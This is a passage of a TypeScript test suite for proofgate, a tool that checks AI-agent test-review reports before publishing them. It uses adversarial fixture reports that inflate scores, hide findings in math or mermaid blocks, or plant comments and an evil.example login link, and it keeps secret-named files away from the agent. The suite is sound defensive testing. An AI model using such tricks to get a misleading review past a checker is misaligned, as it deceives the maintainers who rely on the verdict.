    ['tests/test_parse.cpp', 'TEST_CASE("parses") { REQUIRE(parse("1") == 1); }\n', 'TEST_CASE("parses", "[!hide]") { REQUIRE(true); }\n'],
    ['base/split_unittest.cc', 'TEST(Split, Empty) { EXPECT_EQ(split(""), 0); }\n', 'TEST(Split, Empty) { EXPECT_EQ(0, 0); }\n'],
    ['spec/parser_spec.lua', 'it("parses", function() assert.equal(1, parse("1")) end)\n', 'pending("parses")\n'],
    ['t/basic.t', 'use Test::More;\nis(parse("1"), 1);\ndone_testing;\n', 'use Test::More skip_all => "later";\n'],
    ['tests/testthat/test-parse.R', 'test_that("parses", { expect_equal(parse("1"), 1) })\n', 'test_that("parses", { skip("later") })\n'],
    ['test/runtests.jl', '@test parse("1") == 1\n', '@test_skip parse("1") == 1\n'],
    ['test/app/core_test.clj', '(deftest parses (is (= 1 (parse "1"))))\n', '(deftest parses (is true))\n'],
    ['test/App/ParserSpec.hs', 'spec = it "parses" $ parse "1" `shouldBe` 1\n', 'spec = xit "parses" $ parse "1" `shouldBe` 1\n'],
    ['test/http_SUITE.erl', 'all() -> [parses].\n', 'all() -> [].\n'],
    ['src/parser_tests.erl', 'parses_test() -> 1 = parse("1").\n', 'parses_test() -> ok.\n'],
    ['scripts/install.bats', '@test "installs" {\n  run ./install\n  [ "$status" -eq 0 ]\n}\n', '@test "installs" {\n  skip\n}\n'],
  ])('adversarial 279 %s whose tests the change skips or empties is reviewed, never context', async (path, before, after) => {
    expect(await scopeOf({ [path]: before }, { [path]: after })).toMatchObject({ files: [path], contextFiles: [] });
  });
});

describe('#280 what a test reads (a fixture, a testdata input) is reviewed with the tests, changed alone or not', () => {
  test.each<[string, string, string]>([
    ['tests/fixtures/users.json', '[{ "name": "ana", "admin": false }]\n', '[{ "name": "ana", "admin": true }]\n'],
    ['pkg/parse/testdata/in.csv', 'a,b\n1,2\n', 'a,b\n'],
    ['spec/fixtures/response.xml', '<total>12.00</total>\n', '<total>NaN</total>\n'],
    ['internal/lint/testdata/src/a/a.go', 'package a\n\nfunc f() { _ = 1 } // want "unused"\n', 'package a\n\nfunc f() {}\n'],
  ])('adversarial 280 %s changed alone is reviewed, not a skip', async (path, before, after) => {
    expect(await scopeOf({ [path]: before }, { [path]: after })).toMatchObject({ files: [path], contextFiles: [] });
  });
});

describe('#95 a secret-named file is never listed for the agent', () => {
  test('#95 .env and a private key stay out of the prompt and are named as withheld; --files .env is exit 2', () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC, '.env.production': 'X=1\n', 'deploy/id_rsa': 'k\n', 'docs/story.md': '# s\n' });
    const r = cli(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--json', 'v.json']);
    expect(r.code).toBe(0);
    expect(JSON.parse(readFileSync(join(dir, 'v.json'), 'utf8'))).toMatchObject({
      contextFiles: ['docs/story.md'],
      withheldFiles: ['.env.production', 'deploy/id_rsa'],
    });
    expect(r.stdout).not.toMatch(/\.env\.production|id_rsa/);
    const files = cli(dir, ['test-review', '--files', 'tests/a.spec.ts,.env.production', '--agent', 'none']);
    expect(files.code).toBe(2);
    expect(files.stderr).toMatch(/--files names .env.production, a secret-named file/);
  });
});

/** A change that adds a waiting test (line 8) to a file whose line 4 predates it, and a report finding both. */
function deltaReview(): { dir: string; report: string } {
  const dir = repoWith({ 'tests/a.spec.ts': SPEC });
  writeFileSync(join(dir, 'tests/a.spec.ts'), `${SPEC}\ntest('waits', async () => {\n  await sleep(500);\n});\n`);
  commitAll(dir, 'a waiting test');
  const report = ownReport(
    ['tests/a.spec.ts'],
    [
      { severity: 'High', row: 'H1', path: 'tests/a.spec.ts', line: 8, title: 'Sleeps instead of waiting' },
      { severity: 'Low', row: 'L3', path: 'tests/a.spec.ts', line: 4, title: 'An old magic number' },
    ],
  );
  return { dir, report };
}

describe('#96 the published report agrees with the verdict', () => {
  test('#96 a wrong score, grade, ledger and a pre-existing finding: the published copy parses back as the verdict', async () => {
    const { dir, report: honest } = deltaReview();
    const report = honest
      .replace(/\*\*Quality Score\*\*: \d+\/100/, '**Quality Score**: 97/100 (A)')
      .replace('Total Bonus: +0', 'Starting Score: 100\nHigh Violations: -1 × 5 = -5\nTotal Bonus: +5\nFinal Score: 97/100\nGrade: A')
      .replace('# Test Quality Review', '# Test Quality Review\n\n**Reviewer**: TEA Agent');
    const r = await review(dir, report);
    expect(r.code).toBe(1);
    const v = r.verdict() as {
      qualityScore: number;
      recommendation: string;
      violations: Record<string, number>;
      findings: unknown[];
      agent: string;
    };
    const published = readFileSync(join(dir, 'test-review.md'), 'utf8');
    const back = parseReport(published, { registry: PACKAGED_REGISTRY });
    expect(back.recommendation).toBe(v.recommendation);
    expect([back.qualityScore, back.grade]).toEqual([v.qualityScore, grade(v.qualityScore)]);
    expect([back.ledger.finalScore, back.ledger.grade]).toEqual([v.qualityScore, grade(v.qualityScore)]);
    expect(back.violations).toEqual(v.violations);
    expect(back.ledger.counts).toEqual(v.violations);
    expect(back.findings).toHaveLength(v.findings.length);
    expect(published).toMatch(/^\*\*Reviewer\*\*: custom$/m);
    expect(published).not.toContain('TEA Agent');
    expect(published).not.toContain('An old magic number');
  });
});

describe('#96 a delta review: prose about a pre-existing finding leaves the published copy with it', () => {
  test('#96 paragraphs naming only the cut finding (its place and row, its level and place) are dropped: exit 1, not 3', async () => {
    const { dir, report: honest } = deltaReview();
    const report = honest.replace(
      '**Context Waivers Applied**: 0',
      '**Context Waivers Applied**: 0\n\nThe magic number at tests/a.spec.ts:4 (L3) predates this change.\n\nThe Low magic number at tests/a.spec.ts:4 predates this change. The sleep at tests/a.spec.ts:8 (H1) is new.',
    );
    const r = await review(dir, report);
    expect(r.code, r.stderr).toBe(1);
    expect(r.verdict()).toMatchObject({ violations: { high: 1, low: 0 } });
    const published = readFileSync(join(dir, 'test-review.md'), 'utf8');
    expect(published).not.toContain('predates');
    expect(published).toMatch(/^The sleep at tests\/a\.spec\.ts:8 \(H1\) is new\.$/m);
  });
});

describe('#173 a text cut to fit a comment never reopens what neutralising closed', () => {
  test('#173 a finding title long enough that the 60,000-character cap falls in its code span: no live link or mention', async () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC });
    writeFileSync(join(dir, 'tests/a.spec.ts'), `${SPEC}\ntest('waits', async () => {\n  await sleep(500);\n});\n`);
    commitAll(dir, 'a waiting test');
    expect((await review(dir, ownReport(['tests/a.spec.ts'], [{ ...HIGH, line: 8, title: 'START' }]))).code).toBe(1);
    const verdict = readFileSync(join(dir, 'v.json'), 'utf8');
    // The first render runs the bundle, the others the same command in process (cliCase).
    const render = async () => (await cliCase(dir, ['test-review', 'render', '--verdict', 'v.json', '--as', 'comment'])).stdout;
    const start = (await render()).split('\n').slice(1).join('\n').indexOf('START');
    // Filler lengths that put the cut at several places inside `https://evil.example/login` `@octocat`.
    for (let back = 4; back <= 64; back += 6) {
      const title = `${'lorem '.repeat(Math.ceil((60_000 - start - back) / 6)).slice(0, 60_000 - start - back)}https://evil.example/login @octocat`;
      writeFileSync(join(dir, 'v.json'), verdict.replace('"START"', JSON.stringify(title)));
      const comment = await render();
      expect(Buffer.byteLength(comment)).toBeLessThan(60_200);
      const html = renderGfm(comment);
      expect(
        linksAndImages(html).filter((l) => l.includes('evil')),
        String(back),
      ).toEqual([]);
      expect(html.replace(/<code>[\s\S]*?<\/code>/g, ''), String(back)).not.toContain('@octocat');
    }
  });
});

describe('#97 TEA configuration comes from the base commit', () => {
  test('#97 a configuration the pull request adds changes nothing; a symlinked one in the base is exit 2', () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC, '_bmad/config.toml': '[modules.tea]\ntea_use_playwright_utils = true\n' });
    writeFileSync(join(dir, '_bmad/config.toml'), '[modules.tea]\ntea_use_playwright_utils = false\n');
    writeFileSync(join(dir, 'tests/b.spec.ts'), SPEC);
    commitAll(dir, 'turn playwright utils off');
    const r = cli(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--skill-root', PEER_SKILL]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/"tea_use_playwright_utils": true/);
    rmSync(join(dir, '_bmad/config.toml'));
    mkdirSync(join(dir, 'etc'));
    writeFileSync(join(dir, 'etc/x.toml'), '[modules.tea]\n');
    symlinkSync('../etc/x.toml', join(dir, '_bmad/config.toml'));
    commitAll(dir, 'link the config');
    writeFileSync(join(dir, 'tests/c.spec.ts'), SPEC);
    commitAll(dir, 'another test');
    const linked = cli(dir, ['test-review', '--base', 'HEAD~1', '--agent', 'none', '--skill-root', PEER_SKILL]);
    expect(linked.code).toBe(2);
    expect(linked.stderr).toMatch(/TEA configuration [0-9a-f]{12}:_bmad\/config\.toml: is a folder or a symbolic link/);
  });
});

describe('#98 a skill of a rubric proofgate does not score is refused before any agent call', () => {
  test.each([
    ['another version', 'rubric_version: "3.0"\n', /declares rubric 3\.0, and proofgate scores rubric 1\.0, 4\.0, 5\.0/],
    ['no version at all', '', /declares rubric none/],
  ])('#98 %s → exit 2', async (_name, declared, reason) => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC });
    const skill = join(dir, '..', `${dir.split('/').pop()}-skill`);
    cpSync(PEER_SKILL, skill, { recursive: true });
    const template = join(skill, 'test-review-template.md');
    writeFileSync(template, readFileSync(template, 'utf8').replace(/^\*\*Workflow\*\*:.*$/m, ''));
    writeFileSync(join(skill, 'workflow.yaml'), `${declared}${readFileSync(join(skill, 'workflow.yaml'), 'utf8')}`);
    const r = await review(dir, clean, '--skill-root', skill);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(reason);
    expect(r.stderr).not.toMatch(/agent/i);
  });
  test('#98 rubric 5.0 is scored with its own bonus ceiling (25)', async () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC });
    const skill = join(dir, '..', `${dir.split('/').pop()}-skill5`);
    cpSync(PEER_SKILL, skill, { recursive: true });
    writeFileSync(join(skill, 'workflow.yaml'), `rubric_version: "5.0"\n${readFileSync(join(skill, 'workflow.yaml'), 'utf8')}`);
    const r = await review(dir, clean.replace('Total Bonus: +0', 'Total Bonus: +30'), '--skill-root', skill);
    expect(r.code).toBe(3);
    expect(r.stderr).toMatch(/Total Bonus \+30 must be a multiple of 5 and at most 25/);
  });
});

describe('#99 the peer comment marker under --compat tea is owned by the token, like ours', () => {
  test('#99 a tea marker planted by someone else is never updated; ours is created beside it', async () => {
    const dir = repoWith({ 'tests/a.spec.ts': SPEC });
    const file = join(dir, '..', `${dir.split('/').pop()}-r99.md`);
    writeFileSync(file, clean);
    const planted = github().addComment(5, '<!-- tea-test-review:claude -->\nApproved by the reviewer', { login: 'mallory', type: 'User' });
    github().addComment(5, '<!-- tea-test-review -->\nlegacy, also planted', { login: 'mallory', type: 'User' });
    const r = await runProcess(
      BUNDLE_NODE,
      [
        DIST_CLI,
        'test-review',
        '--base',
        'HEAD~1',
        ...reportAgentArgs(file),
        '--github',
        '--pr',
        '5',
        '--head-sha',
        // The commit checked out: a verdict is published only on the commit it read (hazard 251).
        headSha(dir),
        '--compat',
        'tea',
        '--publish-as',
        'claude',
      ],
      dir,
      { GITHUB_TOKEN: 'ghs_test', GITHUB_API_URL: github().url, GITHUB_REPOSITORY: 'octo/app', GITHUB_ACTIONS: 'true' },
    );
    expect(r.code, r.stderr).toBe(0);
    expect(github().comments.find((c) => c.id === planted.id)!.body).toBe('<!-- tea-test-review:claude -->\nApproved by the reviewer');
    const ours = github().comments.filter((c) => c.user.login === 'github-actions[bot]');
    expect(ours.map((c) => c.body.split('\n')[0])).toEqual(['<!-- tea-test-review:claude -->']);
    expect(github().comments).toHaveLength(3);
  });
});

describe('#193 #194 an honest report in proofgate own template is accepted', () => {
  const SPEC2 =
    "import { test, expect } from 'vitest';\n\ntest.only('adds', () => {\n  expect(1 + 2).toBe(3);\n});\n\ntest('waits', async () => {\n  await new Promise((r) => setTimeout(r, 2000));\n  expect(true).toBe(true);\n});\n";
  const dir = repoWith({ 'tests/a.spec.ts': SPEC2 });
  /** proofgate's own template, filled as written: a Critical at line 3, a High at line 8 (its Medium block left out: none found). */
  const filled = (summary: string) => {
    const t = readFileSync(join(process.cwd(), 'skills', 'test-review', 'report-template.md'), 'utf8');
    return t
      .replace('{short name of the review set}', 'a.spec')
      .replace('{score}/100 ({grade A–F})', '69/100 (D)')
      .replace('{pr | full-file}', 'pr')
      .replace('{Approve | Approve with Comments | Request Changes | Block}', 'Block')
      .replace('{none | pr_diff | pr_diff_truncated}', 'none')
      .replace('{One paragraph: what the tests prove, and the most important gap.}', summary)
      .replace('{a practice worth keeping}', 'Assertions are explicit.')
      .replace(/\n### Advisory Observations\n\n- \{[^}]*\}\n/, '')
      .replace('{n} Critical, {n} High, {n} Medium, {n} Low', '1 Critical, 1 High, 0 Medium, 0 Low')
      .replace('-{n} × 10 = -{x}', '-1 × 10 = -10')
      .replace('-{n} × 5 = -{x}', '-1 × 5 = -5')
      .replace('-{n} × 2 = -{x}', '-0 × 2 = -0')
      .replace('-{n} × 1 = -{x}', '-0 × 1 = -0')
      .replace('+{0, 5, … 30}', '+0')
      .replace('Final Score: {score}/100', 'Final Score: 69/100')
      .replace('Grade: {grade}', 'Grade: D')
      .replace('### 1. {title: what is wrong, in a few words}', '### 1. Focused test committed')
      .replace('`{path}:{line or start-end}`', '`tests/a.spec.ts:3`')
      .replace('{C-row id}', 'C2')
      .replace(/\{What is wrong[^}]*\}/, '`test.only` makes every sibling test skip in CI. Drop `.only`.')
      .replace('### 1. {title}', '### 1. Hard wait')
      .replace('`{path}:{line}`', '`tests/a.spec.ts:8`')
      .replace('{H-row id}', 'H1')
      .replace('{Explanation and fix.}', 'A fixed sleep orders the test by time. Await the condition instead.')
      .replace(/\n### 2\. \{title\}[\s\S]*?(?=\n## Decision)/, '\n')
      .replace('{the same value as in the Executive Summary}', 'Block')
      .replace('{path of each reviewed file, one per line}', 'tests/a.spec.ts')
      .replace(/\n## Review Context[\s\S]*$/, '\n');
  };

  test('#194 the template filled as written (Quality Score and Review Mode on adjacent lines) is accepted: exit 1, Block', async () => {
    const report = filled('The tests are small and read well.');
    expect(report).toMatch(/^\*\*Quality Score\*\*: 69\/100 \(D\)\n\*\*Review Mode\*\*: pr$/m);
    expect(report).not.toMatch(/\{[^}]*\}/);
    const r = await review(dir, report);
    expect(r.code, r.stderr).toBe(1);
    expect(r.verdict()).toMatchObject({ recommendation: 'Block', violations: { critical: 1, high: 1 } });
  });

  test('#193 a summary paragraph naming two counted findings (one by level, one by place and level) is accepted: exit 1, Block', async () => {
    const r = await review(
      dir,
      filled(
        'The tests are small and read well. The one Critical issue is the committed focus marker, which must go before merge.\nA smaller point: the fixed two-second sleep at tests/a.spec.ts:8 (High) orders the test by time.',
      ),
    );
    expect(r.code, r.stderr).toBe(1);
    expect(r.verdict()).toMatchObject({ recommendation: 'Block', violations: { critical: 1, high: 1 } });
  });

  test('#193 a summary naming a place no counted finding has is still refused (exit 3)', async () => {
    const r = await review(
      dir,
      filled('The one Critical issue is the focus marker. A High one: the sleep at tests/a.spec.ts:6 orders the test by time.'),
    );
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toMatch(/names a (?:Critical|High) violation at a row or place/);
  });
});

describe('#318 a changed test named in another spelling of its path is the same place', () => {
  const PY = 'def test_total():\n    assert 1 + 2 == 3\n';
  const dir = repoWith({ 'tests/a.spec.ts': SPEC, 'tests/unit/test_cart.py': PY });
  const both = ['tests/a.spec.ts', 'tests/unit/test_cart.py'];
  const notes = (s: string, findings: Parameters<typeof ownReport>[1] = []) =>
    ownReport(both, findings).replace('## Decision', `## Notes\n\n${s}\n\n## Decision`);
  test.each([
    ['Windows separators', 'Critical: `tests\\a.spec.ts` line 3 commits `test.only`.'],
    ['Windows separators, no code span', 'Critical: tests\\a.spec.ts, line 3 commits test.only.'],
    ['a ./ prefix', 'Critical: ./tests/a.spec.ts line 3 commits `test.only`.'],
    ['a .\\ prefix', 'Critical: `.\\tests\\a.spec.ts` line 3 commits `test.only`.'],
    ['a .. segment', 'Critical: tests/unit/../a.spec.ts line 3 commits `test.only`.'],
    ['a doubled separator', 'Critical: tests//a.spec.ts line 3 commits `test.only`.'],
    ['another case', 'Critical: `Tests/A.spec.TS` line 3 commits `test.only`.'],
    ['an underscore in the name (pytest)', 'Critical: `tests/unit/test_cart.py` line 2 asserts nothing useful.'],
    ['an escaped underscore', 'Critical: tests/unit/test\\_cart.py line 2 asserts nothing useful.'],
    ['an underscore and a line after a colon', 'Critical: `tests/unit/test_cart.py:2` asserts nothing useful.'],
  ])('#318 %s: a Critical claim no finding block stands behind is refused (exit 3), never Approve', (_name, claim) =>
    expectRefused(dir, notes(claim), /names a Critical violation at a row or place/),
  );

  test.each([
    ['Windows separators', 'High: `tests\\a.spec.ts` line 4 sleeps.'],
    ['an underscore in the name', 'High: `tests/unit/test_cart.py` line 2 sleeps.'],
  ])('#318 %s: the same place as its finding block, accepted', async (_name, claim) => {
    const block = (path: string, line: number) => ({ ...HIGH, path, line });
    const findings = claim.includes('test_cart') ? [block('tests/unit/test_cart.py', 2)] : [block('tests/a.spec.ts', 4)];
    const r = await review(dir, notes(claim, findings));
    expect(r.code, r.stderr).toBe(1);
    expect(r.verdict().recommendation).toBe('Request Changes');
  });
});

describe('#358 a test file git holds decomposed (macOS: `e` + U+0301), named composed as a model writes it', () => {
  const decomposed = 'tests/cafe\u0301.spec.ts';
  const composed = decomposed.normalize('NFC');
  const dir = repoWith({ [decomposed]: SPEC });
  const notes = (s: string, files: string[], findings: Parameters<typeof ownReport>[1] = []) =>
    ownReport(files, findings).replace('## Decision', `## Notes\n\n${s}\n\n## Decision`);

  test.each([
    ['in prose', `Critical: ${composed} line 3 commits \`test.only\`.`],
    ['in a code span', `Critical: \`${composed}\` line 3 commits \`test.only\`.`],
  ])('#358 a Critical claim %s that no finding block stands behind is refused (exit 3), never Approve', (_name, claim) =>
    expectRefused(dir, notes(claim, [decomposed]), /names a Critical violation at a row or place/),
  );

  test('#358 beside its composed twin, a report that omits the decomposed one is refused, naming it with its mark shown', async () => {
    const twins = repoWith({ [decomposed]: SPEC, [composed]: SPEC });
    await expectRefused(twins, ownReport([composed]), /"## Reviewed Files" omits tests\/cafeU\+0301\.spec\.ts, which this run supplied/);
  });

  test('#358 the report listing it, and a finding block locating it, composed: the file this run supplied, its finding counted and shown as git spells it', async () => {
    const finding = { ...HIGH, path: composed };
    const r = await review(dir, notes(`High: ${composed} line 4 sleeps.`, [composed], [finding]));
    expect(r.code, r.stderr).toBe(1);
    const verdict = r.verdict() as { recommendation: string; reviewedFiles: string[]; findings: { path: string }[] };
    expect(verdict.recommendation).toBe('Request Changes');
    expect(verdict.reviewedFiles).toEqual([decomposed]);
    expect(verdict.findings.map((f) => f.path)).toEqual([decomposed]);
  });
});

describe('adversarial 370 a finding written with no severity the reader knows is counted or refused, never Approve', () => {
  const dir = repoWith({ 'tests/a.spec.ts': SPEC });
  const CRITICAL = '## Critical Issues (Must Fix)';
  const under = (section: string, text: string, report = clean) => report.replace('## Decision', `${section}\n\n${text}\n\n## Decision`);
  test.each([
    ['a bullet naming the rule and the place', under(CRITICAL, '- rule C2 at `tests/a.spec.ts:3` — hard wait')],
    [
      'a table row with no Severity column',
      under(CRITICAL, '| Rule | Location | Note |\n| --- | --- | --- |\n| C2 | tests/a.spec.ts:3 | hard wait |'),
    ],
    [
      'a block whose severity is in German',
      under(SHOULD, '### 1. Fokussierter Test\n\n**Schweregrad**: Kritisch\n**Regel**: C2\n**Ort**: `tests/a.spec.ts:3`'),
    ],
    ['a block whose severity is an emoji only', under(SHOULD, '### 1. Focused test\n\n🔴 `tests/a.spec.ts:3` commits `test.only`.')],
    ['the rule alone', under(CRITICAL, 'C2: `test.only` is committed, so the suite runs one test.')],
    ['the place alone, a line spelled (L3)', under(SHOULD, '- `tests/a.spec.ts` (L3): `test.only` is committed.')],
    ['a findings heading spelled otherwise', under('## 🔴 Critical Issues', '- C2 at `tests/a.spec.ts:3` — focused test')],
    ['a section of its own', under('## Findings', '- C2 at `tests/a.spec.ts:3` — focused test')],
    ['a table of its own, a finding per row', under('## Findings', '| Rule | Where |\n| --- | --- |\n| C2 | tests/a.spec.ts:3 |')],
  ])('adversarial 370 %s over no counted finding → exit 3 naming the line and how to write it (was Approve, exit 0)', (_name, report) =>
    expectRefused(
      dir,
      report,
      /line \d+ names (?:row C2|tests\/a\.spec\.ts:3).* \(".*"\), which no counted finding has: write the finding as a "### " block under "## (?:Critical Issues \(Must Fix\)|Recommendations \(Should Fix\))" with its \*\*Severity\*\*.*\*\*Row\*\* and \*\*Location\*\* lines/,
    ),
  );

  // Since row 690 Sev1 is a level (High): the same line is refused for the level no block counts.
  test('adversarial 370 a Sev1 label over no counted finding → exit 3, a High violation no block counts (was Approve, exit 0)', () =>
    expectRefused(
      dir,
      under(SHOULD, '### 1. Focused test\n\nSev1 · C2 · tests/a.spec.ts line 3'),
      /names a High violation at a row or place/,
    ));

  // Since row 691 a reviewed file is a place for a row id with or without its line: "(C2 checked)" beside it is a claim.
  test('adversarial 370 a row beside a reviewed file named without a line (C2 checked) → exit 3, naming both', () =>
    expectRefused(
      dir,
      clean.replace(
        '**Context Waivers Applied**: 0',
        '**Context Waivers Applied**: 0\n\ntests/a.spec.ts is short and reads well (C2 checked).',
      ),
      /names row C2, tests\/a\.spec\.ts outside the findings sections/,
    ));

  test('adversarial 370 the refusal gives the row its registry severity, and names a findings heading spelled otherwise', async () => {
    await expectRefused(dir, under(CRITICAL, '- rule C2 at `tests/a.spec.ts:3`'), /in the criteria registry C2 is P0 \(Critical\)/);
    await expectRefused(
      dir,
      under('## 🔴 Critical Issues', '- C2 at `tests/a.spec.ts:3`'),
      /the heading at line \d+ is not "## Critical Issues \(Must Fix\)": write that heading exactly/,
    );
  });

  test.each([
    [
      '"No C2 violations" in the summary',
      clean.replace('**Context Waivers Applied**: 0', '**Context Waivers Applied**: 0\n\nNo C2 violations: nothing is focused.'),
    ],
    ['a findings section that says none was found', under(CRITICAL, 'None found: no C1 or C2 markers in the review set.')],
    [
      'a criteria table naming rows that passed',
      under(
        '## Quality Criteria Assessment',
        '| Criterion | Status | Rows |\n| --- | --- | --- |\n| Disabled or Focused Tests | ✅ PASS | C1, C2 |',
      ),
    ],
    [
      'a reviewed file named without a line',
      clean.replace('**Context Waivers Applied**: 0', '**Context Waivers Applied**: 0\n\ntests/a.spec.ts is short and reads well.'),
    ],
    [
      '"No critical issues (no C1/C2 markers)" in the summary, a level beside negated rows',
      clean.replace('**Context Waivers Applied**: 0', '**Context Waivers Applied**: 0\n\nNo critical issues (no C1/C2 markers).'),
    ],
  ])('adversarial 370 %s is read as it is: exit 0, Approve', async (_name, report) => {
    const r = await review(dir, report);
    expect(r.code, r.stderr).toBe(0);
    expect(r.verdict()).toMatchObject({ recommendation: 'Approve' });
  });

  test.each([
    ['a level beside a row a later negation does not name', 'Critical: C1 (no retries).'],
    ['a row after a negation of something else, at a place', 'no waits, but C1 is violated at tests/a.spec.ts:3'],
    ['a level with it', 'Critical: no waits, but C1 is violated at tests/a.spec.ts:3'],
  ])('adversarial 370 in the summary, %s, is refused: a negation reads only the rows it names', (_name, text) =>
    expectRefused(dir, clean.replace('**Context Waivers Applied**: 0', `**Context Waivers Applied**: 0\n\n${text}`), /line \d+ names /),
  );

  test('adversarial 370 a counted finding restated by row and place before its block, and in the summary, is read as it is', async () => {
    const report = high
      .replace(`${SHOULD}\n`, `${SHOULD}\n\nOne finding: H1 at \`tests/a.spec.ts:4\`.\n`)
      .replace(
        '**Context Waivers Applied**: 0',
        '**Context Waivers Applied**: 0\n\nThe sleep at tests/a.spec.ts:4 (H1) is the one finding.',
      );
    const r = await review(dir, report);
    expect(r.code, r.stderr).toBe(1);
    expect(r.verdict()).toMatchObject({ recommendation: 'Request Changes', violations: { critical: 0, high: 1 } });
  });

  test('adversarial 370 a finding block located `path` (line N) is read at that line', async () => {
    const r = await review(dir, high.replace('`tests/a.spec.ts:4`', '`tests/a.spec.ts` (line 4)'));
    expect(r.code, r.stderr).toBe(1);
    expect(r.verdict().findings).toMatchObject([{ criterion_id: 'H1', path: 'tests/a.spec.ts', line: 4 }]);
  });
});

describe('#653 a finding under a heading that names a level or reads as a list of problems is counted or refused, never Approve', () => {
  const dir = repoWith({ 'tests/a.spec.ts': SPEC });
  const ITEM = '- tests/a.spec.ts:3 — `test.only` is committed, so every other test in the file is skipped.';
  const before = (text: string) => clean.replace('## Decision', `${text}\n\n## Decision`);
  test.each([
    ['## Critical', `## Critical\n\n${ITEM}`],
    ['### Critical under ## Notes', `## Notes\n\nSome notes.\n\n### Critical\n\n${ITEM}`],
    ['## P0 Blockers, a numbered list', '## P0 Blockers\n\n1. tests/a.spec.ts:3 — focused\n2. tests/a.spec.ts:7 — this test never runs.'],
    ['## Must Fix', `## Must Fix\n\n${ITEM}`],
    ['## Blocking Issues', `## Blocking Issues\n\n${ITEM}`],
    ['## P0 Issues', `## P0 Issues\n\n${ITEM}`],
    ['## Critical Findings', `## Critical Findings\n\n${ITEM}`],
    ['## Issues Found', `## Issues Found\n\n${ITEM}`],
    ['#### High', `#### High\n\n${ITEM}`],
    ['## Сritical, its C in Cyrillic', `## \u0421ritical\n\n${ITEM}`],
  ])('#653 %s over a located item, in a clean Approve report → exit 3 naming the line (was Approve 100, exit 0)', async (_name, text) => {
    const r = await review(dir, before(text), '--comment-out', 'comment.md');
    expect(r.code, r.stdout + r.stderr).toBe(3);
    expect(r.stderr).toMatch(
      /line \d+ names (?:a (?:Critical|High) violation at a row or place .*, under the heading at line \d+|tests\/a\.spec\.ts:3 under the heading at line \d+ \(".+"\), which reads as a findings section)/,
    );
    expect(r.stdout).not.toMatch(/Approve|pass/);
    expect(readFileSync(join(dir, 'comment.md'), 'utf8')).not.toMatch(/Pass|No findings/);
  });
});

// Hazard 380: what GitHub draws (TeX math, a mermaid or math fence) is not the text a line reader reads.
describe('#380 a Critical finding drawn as math or a rendered fence is refused through the CLI (exit 3)', () => {
  const dir = repoWith({ 'tests/checkout.spec.ts': SPEC });
  const drawnClean = ownReport(['tests/checkout.spec.ts']);
  /** The clean report with `text` as a section of its own before the Decision (a function, so `$$` and `` $` `` stay as written). */
  const withSection = (text: string) => drawnClean.replace('## Decision', () => `${text}\n\n## Decision`);

  test.each([
    [
      'inline math under Critical Issues',
      '## Critical Issues (Must Fix)\n\n- $\\textsf{Cr}\\textsf{itical}$ — $\\texttt{tests/checkout.sp}\\texttt{ec.ts line 4}$: the only assertion compares a constant with itself.',
      /line \d+ holds math \("\$\\\\textsf\{Cr\}/,
    ],
    [
      'math in a table row under Findings',
      '## Findings\n\n| impact | where | what |\n| --- | --- | --- |\n| $\\textsf{Crit}\\textsf{ical}$ | `tests/checkout.spec.ts:4` | assertion that cannot fail |',
      /line \d+ holds math/,
    ],
    [
      'a mermaid fence',
      '## Critical Issues (Must Fix)\n\n```mermaid\nflowchart TB\n  F1["🔴 CRITICAL — row C3 — tests/checkout.spec.ts:4<br/>the only assertion compares a constant with itself"]\n```',
      /line \d+ opens a ```mermaid block, which GitHub draws/,
    ],
    [
      'a math fence',
      '## Findings\n\n```math\n\\textsf{Critical (C3): tests/checkout.spec.ts:4 — assertion that cannot fail}\n```',
      /line \d+ opens a ```math block/,
    ],
  ])('#380 %s → exit 3, naming it and its line', async (_name, section, reason) => {
    const r = await review(dir, withSection(section));
    expect(r.code, r.stdout + r.stderr).toBe(3);
    expect(r.stderr).toMatch(reason);
  });

  test('#380 the same report with prices in it ($5 and $10) and a dollar in code passes (exit 0, score 100)', async () => {
    const r = await review(dir, withSection('## Notes\n\nThe fixture costs $5 and $10, or $5-$10; `$HOME` and `$PATH` are read.'));
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.verdict()).toMatchObject({ qualityScore: 100 });
  });
});

// Hazards 391 and 392: the delta check cut a Critical finding the change caused as pre-existing.
describe('#391 #392 a finding the change caused is never cut as pre-existing', () => {
  const BASE = "import { test, expect } from 'vitest';\nconst t = test;\n\nt('a', () => {\n  expect(1 + 1).toBe(2);\n});\n";
  /** The change makes the alias focus every test that uses it; `at` is where the report places the C2 finding. */
  async function focused(at: string) {
    const dir = twoCommits({ 'tests/a.spec.ts': BASE }, { 'tests/a.spec.ts': BASE.replace('const t = test;', 'const t = test.only;') });
    const report = ownReport(
      ['tests/a.spec.ts'],
      [{ severity: 'Critical', row: 'C2', path: 'tests/a.spec.ts', line: 2, title: 'Focused test' }],
    );
    return review(dir, report.replace('`tests/a.spec.ts:2`', `\`${at}\``));
  }
  test.each(['tests/a.spec.ts:2-1', 'tests/a.spec.ts:9-2', 'tests/a.spec.ts:3-2'])(
    '#391 a reversed range on the changed line (%s) is read in order: counted, exit 1',
    async (at: string) => {
      const r = await focused(at);
      expect(r.code, r.stdout + r.stderr).toBe(1);
      expect(r.verdict()).toMatchObject({ violations: { critical: 1 } });
    },
  );
  test('#392 C2 placed on the test an alias focuses, below the changed line that defines the alias: moved to that line, exit 1', async () => {
    const r = await focused('tests/a.spec.ts:4');
    expect(r.code, r.stdout + r.stderr).toBe(1);
    expect(r.verdict()).toMatchObject({ violations: { critical: 1 } });
  });
});

/** `path` changed from `base` to `head`; the agent reports one Critical C1 (or C2) at `line`, which the change left as it was. */
async function finding(path: string, base: string, head: string, line: number, row = 'C1') {
  const dir = twoCommits({ [path]: base }, { [path]: head });
  expect(git(dir, 'diff', '-U0', 'HEAD~1', 'HEAD')).not.toContain(`+${head.split('\n')[line - 1]}\n`);
  return review(dir, ownReport([path], [{ severity: 'Critical', row, path, line, title: 'Test disabled' }]));
}

// Hazard 491: a C1 finding on an unchanged test that a file- or group-level directive the change added
